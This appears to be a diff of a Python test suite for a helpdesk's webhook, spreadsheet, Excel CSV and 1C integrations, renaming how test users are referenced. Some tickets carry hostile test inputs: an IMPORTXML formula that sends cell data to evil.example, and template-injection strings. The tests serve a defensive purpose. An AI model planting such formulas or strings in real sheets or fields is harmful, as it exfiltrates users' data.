@@ -73,10 +73,10 @@ async def _ran(*command: str, given: Any = None, **environment: str) -> str:
 
 async def _caught(stage: Stage, catcher: Catcher, port: int) -> tuple[str, dict[str, str], bytes]:
     """The secret of a webhook that the shop registers, and the call about a request with hostile words."""
-    token = await token_of(stage.people["Vera"], "Shop", Scope.WEBHOOKS, Scope.ALL_READ)
+    token = await token_of(stage.vera, "Shop", Scope.WEBHOOKS, Scope.ALL_READ)
     async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}") as http:
         made = await Client(http, token).asks("POST", "/webhooks", {"url": catcher.url, "types": ["ticket.created"]})
-    await files(stage.people["Rita"], "Касса 🔥 «ring» {{1.value}} ${secret}")
+    await files(stage.rita, "Касса 🔥 «ring» {{1.value}} ${secret}")
     async with sending(stage) as sender:
         await sent(sender)
     ((headers, body),) = catcher.caught
@@ -145,7 +145,7 @@ async def test_a_flow_opens_a_request_once(database: Database, project: Path, la
         panel_of(stage) as port,
         httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}/api/v1") as http,
     ):
-        token = await token_of(stage.people["Vera"])
+        token = await token_of(stage.vera)
         more = {"authorization": f"Bearer {token}", "idempotency-key": "flow-1", **_J}
         made = [await http.post("/tickets", content=body, headers=more) for _ in range(2)]
         assert [(one.status_code, one.json()["number"]) for one in made] == [(201, 1), (201, 1)]
@@ -198,8 +198,8 @@ async def test_the_sheet_sends_its_rows_once_and_shows_open_requests(database: D
         staged(database, board=False, begins=(cast.olga, cast.rita), web__url=URL) as stage,
         panel_of(stage) as port,
     ):
-        await files(stage.people["Rita"], '=IMPORTXML("https://evil.example/"&A2)')
-        token = await token_of(stage.people["Vera"], "Sheet", Scope.ALL_READ)
+        await files(stage.rita, '=IMPORTXML("https://evil.example/"&A2)')
+        token = await token_of(stage.vera, "Sheet", Scope.ALL_READ)
         code = code.replace("https://desk.example", f"http://127.0.0.1:{port}").replace("limit=100", "limit=1")
         new = [_EMPTY, ["c-7", "Kim", "The parcel is late", "", ""], ["c-8", "Lee", "", "", ""]]
         sheets: dict[str, Any] = {"Requests": [["left from before"]], "New": new}
@@ -232,9 +232,9 @@ async def test_the_file_for_excel_has_open_requests(database: Database, project:
         panel_of(stage) as port,
     ):
         for said in ("=1+1 on the display", "The lift is stuck; again"):
-            await files(stage.people["Rita"], said)
-        await stage.people["Olga"].presses("claim:2")
-        token = await token_of(stage.people["Vera"], "Sheet", Scope.ALL_READ)
+            await files(stage.rita, said)
+        await stage.olga.presses("claim:2")
+        token = await token_of(stage.vera, "Sheet", Scope.ALL_READ)
         ran = ("sh", "-c", f"cd {tmp_path} && {sys.executable} requests_to_csv.py")
         await _ran(*ran, DESK=f"http://127.0.0.1:{port}", TOKEN=token)
     with (tmp_path / "requests.csv").open(encoding="utf-8-sig", newline="") as file:
@@ -288,9 +288,9 @@ async def test_1c_is_sent_what_its_handlers_read(database: Database, project: Pa
     ):
         sender._crm = HttpCrm(client, load_mappings(settings.crm_mapping))
         await make_client(stage)
-        number = await files(stage.people["Rita"], "The till prints nothing")
+        number = await files(stage.rita, "The till prints nothing")
         await sent_to_crm(stage, sender)
-        await stage.people["Olga"].presses(f"claim:{number}")
+        await stage.olga.presses(f"claim:{number}")
         await stage.pass_time(minutes=1)
         await sent_to_crm(stage, sender)
     organization, *requests = sorted(came, key=lambda one: one[0])
@@ -318,8 +318,8 @@ async def test_what_1c_sends_is_taken(database: Database, project: Path, languag
         panel_of(stage) as port,
         httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}/api/v1") as http,
     ):
-        await stage.people["Vera"].writes("/settings organizations on")
-        token = await token_of(stage.people["Vera"], "1C", Scope.ORGANIZATIONS)
+        await stage.vera.writes("/settings organizations on")
+        token = await token_of(stage.vera, "1C", Scope.ORGANIZATIONS)
         more = {"authorization": f"Bearer {token}", **_J}
         for _ in range(2):
             answer = await http.request(method, path, content=body.encode(), headers=more)
